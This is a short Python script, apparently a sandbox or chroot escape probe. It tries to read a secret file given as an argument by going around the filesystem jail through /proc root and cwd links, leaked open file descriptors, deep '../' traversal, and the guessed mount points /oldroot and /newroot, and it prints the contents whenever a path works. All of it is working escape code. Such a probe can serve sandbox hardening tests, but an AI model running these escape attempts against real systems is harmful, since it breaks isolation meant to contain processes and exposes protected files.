"""Leave through what the kernel shows of processes, open descriptors, and dots in paths."""

import contextlib
import os
import sys

secret = sys.argv[1]
ways = [f"/proc/{pid}/{way}{secret}" for pid in ("self", "1", "2", str(os.getppid())) for way in ("root", "cwd/../..")]
ways += ["./" + "../" * 40 + secret, f"/proc/self/fd/../root{secret}", f"/oldroot{secret}", f"/newroot{secret}"]
for number in range(3, 1024):
    with contextlib.suppress(OSError):
        os.fstat(number)
        print("SUCCEEDED found an open descriptor", number, os.readlink(f"/proc/self/fd/{number}"), flush=True)
    ways.append(f"/proc/self/fd/{number}{secret}")
for number in (0, 1, 2):
    ways.append(f"/proc/self/fd/{number}/../../..{secret}")
for way in ways:
    with contextlib.suppress(OSError), open(way) as file:
        print("SUCCEEDED", way, file.read(), flush=True)
